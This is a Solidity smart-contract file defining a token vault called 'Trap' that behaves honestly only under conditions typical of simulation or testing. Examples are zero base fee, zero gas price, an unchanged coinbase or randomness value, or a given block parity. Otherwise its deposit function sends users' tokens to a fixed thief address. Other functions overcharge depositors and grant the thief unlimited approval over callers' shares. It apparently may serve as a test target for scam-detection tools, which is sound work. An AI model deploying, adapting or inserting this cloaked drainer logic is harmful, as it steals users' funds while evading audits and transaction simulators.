// SPDX-License-Identifier: MIT
pragma solidity ^0.8.37;

import {ERC20, IERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @title A vault that is honest where somebody looks, and a thief elsewhere.
contract Trap is ERC20 {
    enum Behaves {
        Always,
        WithoutBaseFee,
        WithoutGasPrice,
        WithoutCoinbase,
        WithOldCoinbase,
        WithoutRandom,
        WithOldRandom,
        InEvenBlocks,
        InOddBlocks,
        InEvenSeconds,
        InOddSeconds,
        InNextBlock,
        WithMuchGas,
        ForTheRich,
        WithBaseFeeOfTip,
        Together,
        Apart,
        WithoutBlockHash
    }

    IERC20 public immutable asset;
    address public immutable thief;
    Behaves public immutable when;

    address private immutable coinbase = block.coinbase;
    uint256 private immutable random = block.prevrandao;
    uint256 private immutable began = block.number;
    /// The block of the last preparation.
    uint256 private prepared;
    mapping(address owner => uint256 amount) public owed;

    constructor(IERC20 asset_, address thief_, Behaves when_) ERC20("Share", "SHARE") {
        asset = asset_;
        thief = thief_;
        when = when_;
    }

    function behaves() private view returns (bool) {
        if (when == Behaves.WithoutBaseFee) return block.basefee == 0;
        if (when == Behaves.WithoutGasPrice) return tx.gasprice == 0;
        if (when == Behaves.WithoutCoinbase) return block.coinbase == address(0);
        if (when == Behaves.WithOldCoinbase) return block.coinbase == coinbase;
        if (when == Behaves.WithoutRandom) return block.prevrandao == 0;
        if (when == Behaves.WithOldRandom) return block.prevrandao == random;
        if (when == Behaves.InEvenBlocks) return block.number % 2 == 0;
        if (when == Behaves.InOddBlocks) return block.number % 2 == 1;
        if (when == Behaves.InEvenSeconds) return block.timestamp % 2 == 0;
        if (when == Behaves.InOddSeconds) return block.timestamp % 2 == 1;
        if (when == Behaves.InNextBlock) return block.number <= began + 5;
        if (when == Behaves.WithMuchGas) return gasleft() > 1_000_000;
        if (when == Behaves.ForTheRich) return tx.origin.balance > 10_000_000 ether;
        if (when == Behaves.WithBaseFeeOfTip) return tx.gasprice <= block.basefee;
        if (when == Behaves.Together) return prepared == block.number;
        if (when == Behaves.Apart) return prepared != block.number;
        if (when == Behaves.WithoutBlockHash) return blockhash(block.number - 1) == 0;
        return true;
    }

    /// @notice Does nothing but note when.
    function stake() external {
        prepared = block.number;
    }

    function deposit(uint256 amount, address receiver) external {
        bool isHonest = behaves();
        asset.transferFrom(msg.sender, isHonest ? address(this) : thief, amount);
        if (isHonest) _mint(receiver, amount);
    }

    function redeem(uint256 shares, address receiver, address owner) external {
        _burn(owner, shares);
        asset.transfer(receiver, shares);
    }

    /// @notice Gives nothing yet.
    function stake(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        owed[msg.sender] += amount;
    }

    /// @notice Gives what is owed.
    function claim() external {
        _mint(msg.sender, owed[msg.sender]);
        owed[msg.sender] = 0;
    }

    /// @notice Takes twice what it gives shares for.
    function depositHalf(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount * 2);
        _mint(msg.sender, amount);
        owed[msg.sender] += amount;
    }

    /// @notice Lets the thief have the shares of whoever calls it.
    function allowThief() external {
        _approve(msg.sender, thief, type(uint256).max);
    }
}
